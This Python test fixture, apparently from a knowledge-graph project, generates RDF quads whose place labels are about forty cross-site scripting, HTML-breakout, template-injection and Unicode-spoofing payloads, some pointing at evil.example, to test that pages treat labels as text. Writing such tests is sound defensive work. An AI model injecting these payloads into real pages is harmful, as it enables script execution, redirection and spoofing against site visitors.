"""Labels that would run, break out of their place or turn a line around, if a page took them for more than words."""

import pyoxigraph as ox

from hechi_kg.vocab import BASE

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "</style><script>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<body onload=alert(9)>",
    "<iframe src=javascript:alert(10)></iframe>",
    "<a href=javascript:alert(11)>x</a>",
    "<a href='java&#x09;script:alert(12)'>x</a>",
    "<input autofocus onfocus=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)>",
    "<math><mtext></mtext><script>alert(16)</script></math>",
    "<template><script>alert(17)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(18)>'>",
    "<!--><script>alert(19)</script>-->",
    "<![CDATA[<script>alert(20)</script>]]>",
    '"><script>alert(21)</script>',
    "'><script>alert(22)</script>",
    '" onmouseover="alert(23)',
    "' onmouseover='alert(24)",
    "` onmouseover=`alert(25)",
    "javascript:alert(26)",
    "data:text/html,<script>alert(27)</script>",
    "{{ 7*7 }}{{ config }}",
    "{% for x in y %}{% endfor %}",
    "${alert(30)}",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "&#60;script&#62;alert(32)&#60;/script&#62;",
    "<scr\u200bipt>alert(33)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(34)\uff1c/script\uff1e",
    "\u202egnp.exe\u202c",
    "\u2066\u2067turned\u2069",
    "line\u2028separator\u2029paragraph",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{display:none}</style>",
)


def payload_quads() -> str:
    """A place, and sites in it whose labels are the payloads; with addresses that are no web pages."""
    graph = ox.NamedNode(f"{BASE}id/graph/places")
    place = ox.NamedNode(f"{BASE}id/place/payloads")
    names = {key: ox.NamedNode(value) for key, value in {
        "label": "http://www.w3.org/2000/01/rdf-schema#label", "in": f"{BASE}ontology#locatedIn",
        "type": "http://www.w3.org/1999/02/22-rdf-syntax-ns#type", "see": "http://www.w3.org/2000/01/rdf-schema#seeAlso",
    }.items()}  # fmt: skip
    quads = []
    for number, payload in enumerate(PAYLOADS):
        site = ox.NamedNode(f"{BASE}id/site/payload{number}")
        language = "en" if number % 2 else "zh-Hans"
        quads += [
            ox.Quad(site, names["type"], ox.NamedNode(f"{BASE}ontology#Site"), graph),
            ox.Quad(site, names["label"], ox.Literal(payload, language=language), graph),
            ox.Quad(site, names["in"], place, graph),
            ox.Quad(site, names["see"], ox.NamedNode(f"javascript:alert({number})"), graph),
            ox.Quad(site, names["see"], ox.NamedNode(f"data:text/html,alert{number}"), graph),
        ]
    return "".join(f"{quad} .\n" for quad in quads)
